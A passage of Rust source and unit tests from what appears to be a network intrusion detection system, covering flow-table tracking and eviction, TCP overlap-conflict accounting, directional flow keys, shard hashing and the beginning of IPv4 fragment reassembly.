        assert!(t.evicted() > 0);
        let shed = t.take_shed();
        assert!(shed.iter().all(|s| s.cause == ShedCause::ByteBudget));
        t.drain();
        assert_eq!(budget.tracked(), 0, "drain releases every byte");
    }

    /// Expire releases budget bytes (the satellite fix).
    #[test]
    fn expire_releases_budget_bytes() {
        let budget = Arc::new(MemoryBudget::limited(0));
        let mut t = FlowTable::with_budget(
            FlowTableConfig {
                idle_timeout_micros: 100,
                ..FlowTableConfig::default()
            },
            Arc::clone(&budget),
        );
        let b = builder();
        t.process(
            &b.clone()
                .at(0)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"abcdef")
                .unwrap(),
        );
        assert_eq!(budget.tracked(), 6);
        let expired = t.expire(1_000);
        assert_eq!(expired.len(), 1);
        assert_eq!(budget.tracked(), 0);
    }

    /// At high water, new flows are created degraded (small stream cap,
    /// no shadow retention) while existing flows keep their full caps.
    #[test]
    fn high_water_degrades_new_flows_only() {
        let budget = Arc::new(MemoryBudget::limited(1000));
        let mut t = FlowTable::with_budget(
            FlowTableConfig {
                degraded_stream_bytes: 16,
                ..FlowTableConfig::default()
            },
            Arc::clone(&budget),
        );
        let b = builder();
        let k_old = t
            .process(
                &b.clone()
                    .at(1)
                    .tcp(1, 80, 0, 0, TcpFlags::ACK, &[0x41; 100])
                    .unwrap(),
            )
            .unwrap();
        // Push tracked bytes to high water (700).
        t.process(
            &b.clone()
                .at(2)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, &[0x42; 650])
                .unwrap(),
        );
        assert_eq!(budget.level(), PressureLevel::High);
        let o = t.process_tracked(
            &b.clone()
                .at(3)
                .tcp(3, 80, 0, 0, TcpFlags::ACK, &[0x43; 64])
                .unwrap(),
        );
        assert!(o.degraded);
        assert_eq!(t.degraded_flows(), 1);
        let new_flow = t.get(&o.key.unwrap()).unwrap();
        assert!(new_flow.stream.truncated(), "64 B > degraded 16 B cap");
        assert_eq!(new_flow.stream.buffered(), 0);
        // The pre-pressure flow keeps accepting data under its full cap.
        let o_old = t.process_tracked(
            &b.clone()
                .at(4)
                .tcp(1, 80, 100, 0, TcpFlags::ACK, &[0x44; 50])
                .unwrap(),
        );
        assert!(!o_old.truncated);
        assert_eq!(t.get(&k_old).unwrap().stream.buffered(), 150);
    }

    #[test]
    fn stream_cap_marks_flow_truncated_once() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_stream_bytes: 64,
            ..FlowTableConfig::default()
        });
        let b = builder();
        let payload = vec![0x41u8; 48];
        t.process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, &payload).unwrap());
        assert_eq!(t.truncated_flows(), 0);
        t.process(&b.tcp(1, 80, 48, 0, TcpFlags::ACK, &payload).unwrap());
        assert_eq!(t.truncated_flows(), 1);
        t.process(&b.tcp(1, 80, 96, 0, TcpFlags::ACK, &payload).unwrap());
        assert_eq!(t.truncated_flows(), 1, "counted once per flow");
    }

    /// A divergent overlapping retransmit is resolved per the configured
    /// policy and surfaces in the table-wide conflict ledger — even after
    /// the flow itself is drained.
    #[test]
    fn divergent_retransmit_counts_conflicts_per_policy() {
        use crate::reassembly::OverlapPolicy;
        for (policy, expect) in [
            (OverlapPolicy::FirstWins, &b"real"[..]),
            (OverlapPolicy::LastWins, &b"fake"[..]),
        ] {
            let mut t = FlowTable::new(FlowTableConfig {
                overlap_policy: policy,
                ..FlowTableConfig::default()
            });
            let b = builder();
            let k = t
                .process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, b"real").unwrap())
                .unwrap();
            t.process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, b"fake").unwrap());
            assert_eq!(t.get(&k).unwrap().payload(), expect, "{}", policy.name());
            assert_eq!(t.overlap_conflict_bytes(), 4, "{}", policy.name());
            t.drain();
            assert_eq!(t.overlap_conflict_bytes(), 4, "survives drain");
        }
    }

    #[test]
    fn process_tracked_reports_side_effects() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 1,
            max_stream_bytes: 8,
            ..FlowTableConfig::default()
        });
        let b = builder();
        let first = t.process_tracked(
            &b.clone()
                .at(10)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"abcd")
                .unwrap(),
        );
        assert!(first.key.is_some());
        assert_eq!(first.evicted, None);
        assert_eq!(first.segment_bytes, 4);
        assert!(!first.truncated);
        assert_eq!(first.conflict_bytes, 0);

        // A second flow at the cap evicts the first.
        let second = t.process_tracked(
            &b.clone()
                .at(20)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"efgh")
                .unwrap(),
        );
        assert_eq!(second.evicted, first.key);
        assert_eq!(second.shed, 1);

        // Overflowing the stream cap reports truncation onset once.
        let over = t.process_tracked(
            &b.clone()
                .at(30)
                .tcp(2, 80, 4, 0, TcpFlags::ACK, b"ijklmnop")
                .unwrap(),
        );
        assert!(over.truncated);
        let again = t.process_tracked(
            &b.clone()
                .at(40)
                .tcp(2, 80, 12, 0, TcpFlags::ACK, b"qr")
                .unwrap(),
        );
        assert!(!again.truncated, "onset reported once");

        // A divergent retransmit reports its conflict delta.
        let conflict = t.process_tracked(
            &b.clone()
                .at(50)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"XXgh")
                .unwrap(),
        );
        assert_eq!(conflict.conflict_bytes, 2);

        // Untrackable packets yield the default outcome.
        use snids_packet::{EtherType, EthernetFrame, MacAddr};
        let eth = EthernetFrame {
            dst: MacAddr::BROADCAST,
            src: MacAddr::new(2, 0, 0, 0, 0, 1),
            ethertype: EtherType::Arp,
        };
        let mut raw = eth.to_bytes().to_vec();
        raw.extend_from_slice(&[0u8; 28]);
        let p = snids_packet::Packet::decode(0, raw).unwrap();
        assert_eq!(t.process_tracked(&p), ProcessOutcome::default());
    }

    #[test]
    fn drain_empties_table() {
        let mut t = FlowTable::default();
        let b = builder();
        t.process(&b.tcp(1, 2, 0, 0, TcpFlags::ACK, b"x").unwrap());
        let drained = t.drain();
        assert_eq!(drained.len(), 1);
        assert!(t.is_empty());
    }

    #[test]
    fn non_flow_packets_are_ignored() {
        use snids_packet::{EtherType, EthernetFrame, MacAddr};
        let mut t = FlowTable::default();
        let eth = EthernetFrame {
            dst: MacAddr::BROADCAST,
            src: MacAddr::new(2, 0, 0, 0, 0, 1),
            ethertype: EtherType::Arp,
        };
        let mut raw = eth.to_bytes().to_vec();
        raw.extend_from_slice(&[0u8; 28]);
        let p = snids_packet::Packet::decode(0, raw).unwrap();
        assert!(t.process(&p).is_none());
        assert!(t.is_empty());
    }
}
