//! The flow table: per-flow state with idle eviction.

use crate::key::FlowKey;
use crate::reassembly::{OverlapPolicy, Reassembler};
use snids_packet::{IpProtocol, Packet, TransportSummary};
use std::collections::HashMap;

/// Limits for the flow table.
#[derive(Debug, Clone)]
pub struct FlowTableConfig {
    /// Maximum tracked flows; the coldest flow is evicted beyond this.
    pub max_flows: usize,
    /// Idle eviction horizon in microseconds.
    pub idle_timeout_micros: u64,
    /// Per-stream reassembly byte cap.
    pub max_stream_bytes: usize,
    /// How conflicting TCP segment overlaps resolve — pick the policy of
    /// the stacks this sensor protects so the NIDS sees what victims see.
    pub overlap_policy: OverlapPolicy,
}

impl Default for FlowTableConfig {
    fn default() -> Self {
        FlowTableConfig {
            max_flows: 65_536,
            idle_timeout_micros: 120 * 1_000_000,
            max_stream_bytes: crate::reassembly::DEFAULT_MAX_STREAM,
            overlap_policy: OverlapPolicy::default(),
        }
    }
}

/// Per-direction flow state.
#[derive(Debug, Clone)]
pub struct Flow {
    /// The flow's identity.
    pub key: FlowKey,
    /// Timestamp of the first packet.
    pub first_seen: u64,
    /// Timestamp of the most recent packet.
    pub last_seen: u64,
    /// Packets observed.
    pub packets: u64,
    /// Payload bytes observed.
    pub payload_bytes: u64,
    /// TCP reassembly state (UDP flows concatenate datagrams here too —
    /// the analyzer wants "the bytes this source sent" either way).
    pub stream: Reassembler,
    udp_next: u32,
}

impl Flow {
    fn new(key: FlowKey, ts: u64, max_stream: usize, policy: OverlapPolicy) -> Flow {
        Flow {
            key,
            first_seen: ts,
            last_seen: ts,
            packets: 0,
            payload_bytes: 0,
            stream: Reassembler::with_policy(max_stream, policy),
            udp_next: 0,
        }
    }

    /// The reassembled client-to-server byte stream.
    pub fn payload(&self) -> Vec<u8> {
        self.stream.assembled()
    }

    /// The alternative interpretation of the stream — the view a victim
    /// stack resolving divergent overlaps the *other* way would execute.
    /// `None` when the flow carried no divergent overlaps.
    pub fn alternate_payload(&self) -> Option<Vec<u8>> {
        self.stream.alternate_assembled()
    }

    /// True when the flow carried divergent overlapping copies — the
    /// per-flow desync-attempt signal.
    pub fn has_conflicts(&self) -> bool {
        self.stream.overlap_conflict_bytes() > 0
    }
}

/// Directional flow table.
#[derive(Debug, Default)]
pub struct FlowTable {
    flows: HashMap<FlowKey, Flow>,
    config: FlowTableConfig,
    evicted: u64,
    truncated_flows: u64,
    overlap_conflict_bytes: u64,
}

impl FlowTable {
    /// A table with custom limits.
    pub fn new(config: FlowTableConfig) -> Self {
        FlowTable {
            flows: HashMap::with_capacity(1024),
            config,
            evicted: 0,
            truncated_flows: 0,
            overlap_conflict_bytes: 0,
        }
    }

    /// Number of tracked flows.
    pub fn len(&self) -> usize {
        self.flows.len()
    }

    /// True when no flows are tracked.
    pub fn is_empty(&self) -> bool {
        self.flows.is_empty()
    }

    /// Flows force-evicted at the `max_flows` cap (their unanalyzed state
    /// was discarded — each is a potential detection gap).
    pub fn evicted(&self) -> u64 {
        self.evicted
    }

    /// Flows whose reassembly buffer hit the per-stream byte cap and
    /// stopped accumulating payload.
    pub fn truncated_flows(&self) -> u64 {
        self.truncated_flows
    }

    /// Cumulative overlapped bytes whose copies carried different data,
    /// across every flow this table has tracked (including flows since
    /// drained or evicted) — the table-wide desync-attempt signal.
    pub fn overlap_conflict_bytes(&self) -> u64 {
        self.overlap_conflict_bytes
    }

    /// Feed a packet; returns the flow key when the packet belonged to a
    /// trackable flow.
    pub fn process(&mut self, packet: &Packet) -> Option<FlowKey> {
        self.process_tracked(packet).key
    }

    /// [`FlowTable::process`] with the side effects reported back, so an
    /// instrumenting caller can observe evictions, truncation onsets, and
    /// overlap conflicts without this crate knowing about metrics.
    pub fn process_tracked(&mut self, packet: &Packet) -> ProcessOutcome {
        let mut outcome = ProcessOutcome::default();
        let Some(key) = FlowKey::of(packet) else {
            return outcome;
        };
        if !self.flows.contains_key(&key) && self.flows.len() >= self.config.max_flows {
            outcome.evicted = self.evict_coldest();
        }
        let max_stream = self.config.max_stream_bytes;
        let policy = self.config.overlap_policy;
        let flow = self
            .flows
            .entry(key)
            .or_insert_with(|| Flow::new(key, packet.ts_micros, max_stream, policy));
        flow.last_seen = flow.last_seen.max(packet.ts_micros);
        flow.packets += 1;
        flow.payload_bytes += packet.payload().len() as u64;
        outcome.segment_bytes = packet.payload().len();
        let was_truncated = flow.stream.truncated();
        let conflicts_before = flow.stream.overlap_conflict_bytes();
        match (key.proto, packet.transport()) {
            (IpProtocol::Tcp, Some(TransportSummary::Tcp(tcp))) => {
                if tcp.flags.syn() && !tcp.flags.ack() {
                    flow.stream.on_syn(tcp.seq);
                }
                if !packet.payload().is_empty() {
                    flow.stream.on_data(tcp.seq, packet.payload());
                }
            }
            (IpProtocol::Udp, _) => {
                // Concatenate datagrams in arrival order.
                let data = packet.payload();
                if !data.is_empty() {
                    let at = flow.udp_next;
                    flow.stream.on_data(at, data);
                    flow.udp_next = at.wrapping_add(data.len() as u32);
                }
            }
            _ => {}
        }
        let conflict_delta = flow.stream.overlap_conflict_bytes() - conflicts_before;
        if !was_truncated && flow.stream.truncated() {
            self.truncated_flows += 1;
            outcome.truncated = true;
        }
        self.overlap_conflict_bytes += conflict_delta;
        outcome.conflict_bytes = conflict_delta;
        outcome.key = Some(key);
        outcome
    }

    /// Look up a flow.
    pub fn get(&self, key: &FlowKey) -> Option<&Flow> {
        self.flows.get(key)
    }

    /// Iterate all flows.
    pub fn flows(&self) -> impl Iterator<Item = &Flow> {
        self.flows.values()
    }

    /// Remove and return flows idle since before `now - idle_timeout`.
    pub fn expire(&mut self, now: u64) -> Vec<Flow> {
        let horizon = now.saturating_sub(self.config.idle_timeout_micros);
        let expired: Vec<FlowKey> = self
            .flows
            .values()
            .filter(|f| f.last_seen < horizon)
            .map(|f| f.key)
            .collect();
        expired
            .into_iter()
            .filter_map(|k| self.flows.remove(&k))
            .collect()
    }

    /// Drain every flow (end of trace).
    pub fn drain(&mut self) -> Vec<Flow> {
        self.flows.drain().map(|(_, f)| f).collect()
    }

    fn evict_coldest(&mut self) -> Option<FlowKey> {
        let k = self
            .flows
            .values()
            .min_by_key(|f| f.last_seen)
            .map(|f| f.key)?;
        self.flows.remove(&k);
        self.evicted += 1;
        Some(k)
    }
}

/// What one [`FlowTable::process_tracked`] call did, for callers that
/// instrument the reassembly stage.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ProcessOutcome {
    /// The packet's flow, when trackable.
    pub key: Option<FlowKey>,
    /// A flow force-evicted at the `max_flows` cap to make room.
    pub evicted: Option<FlowKey>,
    /// Divergent-overlap bytes this packet introduced.
    pub conflict_bytes: u64,
    /// True when this packet pushed the flow's stream over its byte cap
    /// (reported once per flow, at the onset).
    pub truncated: bool,
    /// Payload bytes the tracked segment carried.
    pub segment_bytes: usize,
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::{PacketBuilder, TcpFlags};
    use std::net::Ipv4Addr;

    fn builder() -> PacketBuilder {
        PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2))
    }

    #[test]
    fn tcp_flow_reassembles_across_segments() {
        let mut t = FlowTable::default();
        let b = builder();
        let syn = b.tcp(4000, 80, 100, 0, TcpFlags::SYN, &[]).unwrap();
        let d1 = b
            .tcp(4000, 80, 101, 1, TcpFlags::ACK | TcpFlags::PSH, b"GET /a")
            .unwrap();
        let d2 = b
            .tcp(
                4000,
                80,
                107,
                1,
                TcpFlags::ACK | TcpFlags::PSH,
                b"bc HTTP/1.0\r\n\r\n",
            )
            .unwrap();
        // deliver out of order
        let k = t.process(&syn).unwrap();
        t.process(&d2).unwrap();
        t.process(&d1).unwrap();
        let flow = t.get(&k).unwrap();
        assert_eq!(flow.payload(), b"GET /abc HTTP/1.0\r\n\r\n");
        assert_eq!(flow.packets, 3);
    }

    #[test]
    fn udp_flow_concatenates() {
        let mut t = FlowTable::default();
        let b = builder();
        let k = t.process(&b.udp(500, 53, b"one").unwrap()).unwrap();
        t.process(&b.udp(500, 53, b"two").unwrap()).unwrap();
        assert_eq!(t.get(&k).unwrap().payload(), b"onetwo");
    }

    #[test]
    fn directions_are_separate_flows() {
        let mut t = FlowTable::default();
        let fwd = builder();
        let rev = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 2), Ipv4Addr::new(10, 0, 0, 1));
        let k1 = t
            .process(&fwd.tcp(4000, 80, 0, 0, TcpFlags::ACK, b"req").unwrap())
            .unwrap();
        let k2 = t
            .process(&rev.tcp(80, 4000, 0, 0, TcpFlags::ACK, b"resp").unwrap())
            .unwrap();
        assert_ne!(k1, k2);
        assert_eq!(t.len(), 2);
        assert_eq!(t.get(&k1).unwrap().payload(), b"req");
        assert_eq!(t.get(&k2).unwrap().payload(), b"resp");
    }

    #[test]
    fn idle_flows_expire() {
        let mut t = FlowTable::new(FlowTableConfig {
            idle_timeout_micros: 1_000,
            ..FlowTableConfig::default()
        });
        let b = builder();
        t.process(
            &b.clone()
                .at(0)
                .tcp(1, 2, 0, 0, TcpFlags::ACK, b"x")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(5_000)
                .tcp(3, 4, 0, 0, TcpFlags::ACK, b"y")
                .unwrap(),
        );
        let expired = t.expire(5_500);
        assert_eq!(expired.len(), 1);
        assert_eq!(expired[0].key.src_port, 1);
        assert_eq!(t.len(), 1);
    }

    #[test]
    fn max_flows_evicts_coldest() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 2,
            ..FlowTableConfig::default()
        });
        let b = builder();
        t.process(
            &b.clone()
                .at(10)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"a")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(20)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"b")
                .unwrap(),
        );
        t.process(
            &b.clone()
                .at(30)
                .tcp(3, 80, 0, 0, TcpFlags::ACK, b"c")
                .unwrap(),
        );
        assert_eq!(t.len(), 2);
        // the ts=10 flow is gone, and the eviction is accounted
        assert!(t.flows().all(|f| f.last_seen != 10));
        assert_eq!(t.evicted(), 1);
    }

    #[test]
    fn stream_cap_marks_flow_truncated_once() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_stream_bytes: 64,
            ..FlowTableConfig::default()
        });
        let b = builder();
        let payload = vec![0x41u8; 48];
        t.process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, &payload).unwrap());
        assert_eq!(t.truncated_flows(), 0);
        t.process(&b.tcp(1, 80, 48, 0, TcpFlags::ACK, &payload).unwrap());
        assert_eq!(t.truncated_flows(), 1);
        t.process(&b.tcp(1, 80, 96, 0, TcpFlags::ACK, &payload).unwrap());
        assert_eq!(t.truncated_flows(), 1, "counted once per flow");
    }

    /// A divergent overlapping retransmit is resolved per the configured
    /// policy and surfaces in the table-wide conflict ledger — even after
    /// the flow itself is drained.
    #[test]
    fn divergent_retransmit_counts_conflicts_per_policy() {
        use crate::reassembly::OverlapPolicy;
        for (policy, expect) in [
            (OverlapPolicy::FirstWins, &b"real"[..]),
            (OverlapPolicy::LastWins, &b"fake"[..]),
        ] {
            let mut t = FlowTable::new(FlowTableConfig {
                overlap_policy: policy,
                ..FlowTableConfig::default()
            });
            let b = builder();
            let k = t
                .process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, b"real").unwrap())
                .unwrap();
            t.process(&b.tcp(1, 80, 0, 0, TcpFlags::ACK, b"fake").unwrap());
            assert_eq!(t.get(&k).unwrap().payload(), expect, "{}", policy.name());
            assert_eq!(t.overlap_conflict_bytes(), 4, "{}", policy.name());
            t.drain();
            assert_eq!(t.overlap_conflict_bytes(), 4, "survives drain");
        }
    }

    #[test]
    fn process_tracked_reports_side_effects() {
        let mut t = FlowTable::new(FlowTableConfig {
            max_flows: 1,
            max_stream_bytes: 8,
            ..FlowTableConfig::default()
        });
        let b = builder();
        let first = t.process_tracked(
            &b.clone()
                .at(10)
                .tcp(1, 80, 0, 0, TcpFlags::ACK, b"abcd")
                .unwrap(),
        );
        assert!(first.key.is_some());
        assert_eq!(first.evicted, None);
        assert_eq!(first.segment_bytes, 4);
        assert!(!first.truncated);
        assert_eq!(first.conflict_bytes, 0);

        // A second flow at the cap evicts the first.
        let second = t.process_tracked(
            &b.clone()
                .at(20)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"efgh")
                .unwrap(),
        );
        assert_eq!(second.evicted, first.key);

        // Overflowing the stream cap reports truncation onset once.
        let over = t.process_tracked(
            &b.clone()
                .at(30)
                .tcp(2, 80, 4, 0, TcpFlags::ACK, b"ijklmnop")
                .unwrap(),
        );
        assert!(over.truncated);
        let again = t.process_tracked(
            &b.clone()
                .at(40)
                .tcp(2, 80, 12, 0, TcpFlags::ACK, b"qr")
                .unwrap(),
        );
        assert!(!again.truncated, "onset reported once");

        // A divergent retransmit reports its conflict delta.
        let conflict = t.process_tracked(
            &b.clone()
                .at(50)
                .tcp(2, 80, 0, 0, TcpFlags::ACK, b"XXgh")
                .unwrap(),
        );
        assert_eq!(conflict.conflict_bytes, 2);

        // Untrackable packets yield the default outcome.
        use snids_packet::{EtherType, EthernetFrame, MacAddr};
        let eth = EthernetFrame {
            dst: MacAddr::BROADCAST,
            src: MacAddr::new(2, 0, 0, 0, 0, 1),
            ethertype: EtherType::Arp,
        };
        let mut raw = eth.to_bytes().to_vec();
        raw.extend_from_slice(&[0u8; 28]);
        let p = snids_packet::Packet::decode(0, raw).unwrap();
        assert_eq!(t.process_tracked(&p), ProcessOutcome::default());
    }

    #[test]
    fn drain_empties_table() {
        let mut t = FlowTable::default();
        let b = builder();
        t.process(&b.tcp(1, 2, 0, 0, TcpFlags::ACK, b"x").unwrap());
        let drained = t.drain();
        assert_eq!(drained.len(), 1);
        assert!(t.is_empty());
    }

    #[test]
    fn non_flow_packets_are_ignored() {
        use snids_packet::{EtherType, EthernetFrame, MacAddr};
        let mut t = FlowTable::default();
        let eth = EthernetFrame {
            dst: MacAddr::BROADCAST,
            src: MacAddr::new(2, 0, 0, 0, 0, 1),
            ethertype: EtherType::Arp,
        };
        let mut raw = eth.to_bytes().to_vec();
        raw.extend_from_slice(&[0u8; 28]);
        let p = snids_packet::Packet::decode(0, raw).unwrap();
        assert!(t.process(&p).is_none());
        assert!(t.is_empty());
    }
}
