//! Directional flow identification.

use snids_packet::{IpProtocol, Packet};
use std::fmt;
use std::net::Ipv4Addr;

/// A directional five-tuple. Flows are kept per direction because the NIDS
/// analyzes the *client → server* byte stream (where exploit payloads live)
/// independently of the response stream.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct FlowKey {
    /// Source address.
    pub src: Ipv4Addr,
    /// Destination address.
    pub dst: Ipv4Addr,
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Transport protocol.
    pub proto: IpProtocol,
}

impl FlowKey {
    /// Extract the key from a decoded packet, if it is TCP or UDP over IPv4.
    pub fn of(packet: &Packet) -> Option<FlowKey> {
        let ip = packet.ip()?;
        if !matches!(ip.protocol, IpProtocol::Tcp | IpProtocol::Udp) {
            return None;
        }
        Some(FlowKey {
            src: ip.src,
            dst: ip.dst,
            src_port: packet.src_port()?,
            dst_port: packet.dst_port()?,
            proto: ip.protocol,
        })
    }

    /// The key of the opposite direction.
    pub fn reversed(&self) -> FlowKey {
        FlowKey {
            src: self.dst,
            dst: self.src,
            src_port: self.dst_port,
            dst_port: self.src_port,
            proto: self.proto,
        }
    }
}

impl fmt::Display for FlowKey {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let p = match self.proto {
            IpProtocol::Tcp => "tcp",
            IpProtocol::Udp => "udp",
            _ => "?",
        };
        write!(
            f,
            "{p} {}:{} -> {}:{}",
            self.src, self.src_port, self.dst, self.dst_port
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use snids_packet::{PacketBuilder, TcpFlags};

    #[test]
    fn key_extraction_and_reversal() {
        let b = PacketBuilder::new(Ipv4Addr::new(10, 0, 0, 1), Ipv4Addr::new(10, 0, 0, 2));
        let p = b.tcp(1234, 80, 0, 0, TcpFlags::SYN, &[]).unwrap();
        let k = FlowKey::of(&p).unwrap();
        assert_eq!(k.src_port, 1234);
        assert_eq!(k.dst_port, 80);
        assert_eq!(k.proto, IpProtocol::Tcp);
        let r = k.reversed();
        assert_eq!(r.src, k.dst);
        assert_eq!(r.src_port, 80);
        assert_eq!(r.reversed(), k);
        assert_eq!(k.to_string(), "tcp 10.0.0.1:1234 -> 10.0.0.2:80");
    }

    #[test]
    fn non_transport_packets_have_no_key() {
        use snids_packet::{EtherType, EthernetFrame, MacAddr};
        let eth = EthernetFrame {
            dst: MacAddr::BROADCAST,
            src: MacAddr::new(2, 0, 0, 0, 0, 1),
            ethertype: EtherType::Arp,
        };
        let mut raw = eth.to_bytes().to_vec();
        raw.extend_from_slice(&[0u8; 28]);
        let p = snids_packet::Packet::decode(0, raw).unwrap();
        assert!(FlowKey::of(&p).is_none());
    }
}
