//! Canonical flow hashing for the sharded front half.
//!
//! The streaming driver in `snids-core` splits the front half (prefilter
//! → reassembly) into N shards, each owning its slice of the flow table.
//! Every packet must be routed to a shard by a key that three properties
//! pin down:
//!
//! 1. **Direction symmetry** — both directions of a conversation land on
//!    the same shard, so a future bidirectional analysis never has to
//!    join state across shards.
//! 2. **Fragment stability** — every fragment of an IP datagram lands on
//!    the same shard. Non-first fragments carry *no transport header*,
//!    so the canonical key cannot depend on ports: it is computed from
//!    the IP address pair alone, normalized so `(a, b)` and `(b, a)`
//!    hash identically.
//! 3. **Uniformity** — over random traffic the shards load-balance; the
//!    hash finishes with a full-avalanche mixer so structured address
//!    plans (one busy /16, sequential scanners) still spread.
//!
//! The cost of excluding ports is that all conversations between one
//! address pair co-locate — acceptable, because per-pair state (the flow
//! table's entries, sticky-source escalation) is exactly the state a
//! shard wants to own without locks.

use crate::key::FlowKey;
use snids_packet::Packet;
use std::net::Ipv4Addr;

/// splitmix64 finalizer: full avalanche, so close addresses (sequential
/// scans, one subnet) still spread across shards.
#[inline]
fn mix64(mut x: u64) -> u64 {
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// The canonical flow hash of an address pair: order-insensitive (the
/// pair is sorted before mixing) and independent of ports/protocol (so
/// non-first fragments, which carry no transport header, hash with the
/// rest of their datagram).
#[inline]
pub fn canonical_flow_hash(a: Ipv4Addr, b: Ipv4Addr) -> u64 {
    let (a, b) = (u32::from(a), u32::from(b));
    let (lo, hi) = if a <= b { (a, b) } else { (b, a) };
    mix64(((lo as u64) << 32) | hi as u64)
}

/// The shard (out of `shards`) the canonical hash routes this address
/// pair to. `shards == 0` is treated as 1.
#[inline]
pub fn shard_of_pair(a: Ipv4Addr, b: Ipv4Addr, shards: usize) -> usize {
    match shards {
        0 | 1 => 0,
        n => (canonical_flow_hash(a, b) % n as u64) as usize,
    }
}

/// The shard a directional [`FlowKey`] routes to. Direction-symmetric:
/// `shard_of_key(k, n) == shard_of_key(&k.reversed(), n)`.
#[inline]
pub fn shard_of_key(key: &FlowKey, shards: usize) -> usize {
    shard_of_pair(key.src, key.dst, shards)
}

/// The shard a decoded packet routes to, from its IP addresses alone —
/// defined for every IPv4 packet including non-first fragments (which
/// have no [`FlowKey`]). `None` for non-IP frames.
#[inline]
pub fn shard_of_packet(packet: &Packet, shards: usize) -> Option<usize> {
    let ip = packet.ip()?;
    Some(shard_of_pair(ip.src, ip.dst, shards))
}

/// The fleet worker (out of `workers`) a *source address* routes to.
///
/// The fleet harness splits a capture across worker processes, and the
/// split key must be the source address alone — not the canonical pair —
/// because the classifier's state (sticky-source escalation, dark-space
/// probe counting, the worm detector's per-source infection evidence) is
/// keyed by source. A pair split would scatter one scanner's probes over
/// every worker and dilute the very evidence the detectors accumulate;
/// a source split keeps each source's whole story on one worker, so the
/// union of worker alerts is byte-identical to a single-process run.
/// `workers == 0` is treated as 1.
#[inline]
pub fn fleet_worker_of_source(src: Ipv4Addr, workers: usize) -> usize {
    match workers {
        0 | 1 => 0,
        n => (mix64(u64::from(u32::from(src)) | 0x5EED_0000_0000_0000) % n as u64) as usize,
    }
}

/// The fleet worker a decoded packet routes to, from its IP source
/// address alone. `None` for non-IP frames (the harness keeps those on
/// worker 0 so no capture bytes are lost).
#[inline]
pub fn fleet_worker_of_packet(packet: &Packet, workers: usize) -> Option<usize> {
    Some(fleet_worker_of_source(packet.ip()?.src, workers))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pair_hash_ignores_order_and_ports() {
        let a = Ipv4Addr::new(10, 0, 0, 1);
        let b = Ipv4Addr::new(192, 168, 1, 10);
        assert_eq!(canonical_flow_hash(a, b), canonical_flow_hash(b, a));
        // Distinct pairs get distinct hashes (not a guarantee in general,
        // but these must not collide for the mixer to be doing anything).
        let c = Ipv4Addr::new(10, 0, 0, 2);
        assert_ne!(canonical_flow_hash(a, b), canonical_flow_hash(a, c));
    }

    #[test]
    fn shard_of_zero_or_one_is_zero() {
        let a = Ipv4Addr::new(1, 2, 3, 4);
        let b = Ipv4Addr::new(5, 6, 7, 8);
        assert_eq!(shard_of_pair(a, b, 0), 0);
        assert_eq!(shard_of_pair(a, b, 1), 0);
        assert!(shard_of_pair(a, b, 8) < 8);
    }

    #[test]
    fn fleet_split_is_by_source_stable_and_spread() {
        let src = Ipv4Addr::new(10, 7, 3, 1);
        // Deterministic, independent of destination, in range.
        let w = fleet_worker_of_source(src, 3);
        assert_eq!(fleet_worker_of_source(src, 3), w);
        assert!(w < 3);
        assert_eq!(fleet_worker_of_source(src, 0), 0);
        assert_eq!(fleet_worker_of_source(src, 1), 0);
        // Sequential sources (a scanning subnet) still spread.
        let mut seen = [false; 3];
        for i in 0..64u8 {
            seen[fleet_worker_of_source(Ipv4Addr::new(10, 7, 3, i), 3)] = true;
        }
        assert_eq!(seen, [true; 3]);
    }
}
