//! IPv4 fragment reassembly.
//!
//! Attackers split exploit datagrams across IP fragments so that no single
//! packet contains a parseable transport header (fragroute-style evasion).
//! The defragmenter buffers fragments by `(src, dst, id, proto)` and, once
//! the datagram is complete, rebuilds a whole packet the rest of the
//! pipeline can dissect normally.

use crate::budget::MemoryBudget;
use snids_packet::{Ipv4Header, Packet, ETHERNET_HEADER_LEN};
use std::collections::HashMap;
use std::net::Ipv4Addr;
use std::sync::Arc;

/// Reassembly key per RFC 791.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
struct FragKey {
    src: Ipv4Addr,
    dst: Ipv4Addr,
    id: u16,
    proto: u8,
}

#[derive(Debug, Default)]
struct Datagram {
    /// (offset, bytes) pieces, first-copy-wins on overlap.
    pieces: Vec<(usize, Vec<u8>)>,
    /// Total length once the final fragment arrives.
    total_len: Option<usize>,
    /// Payload bytes buffered across `pieces` (budget accounting).
    bytes: usize,
    first_ts: u64,
}

impl Datagram {
    fn complete(&self) -> Option<Vec<u8>> {
        let total = self.total_len?;
        let mut out = vec![0u8; total];
        let mut covered = vec![false; total];
        let mut pieces = self.pieces.clone();
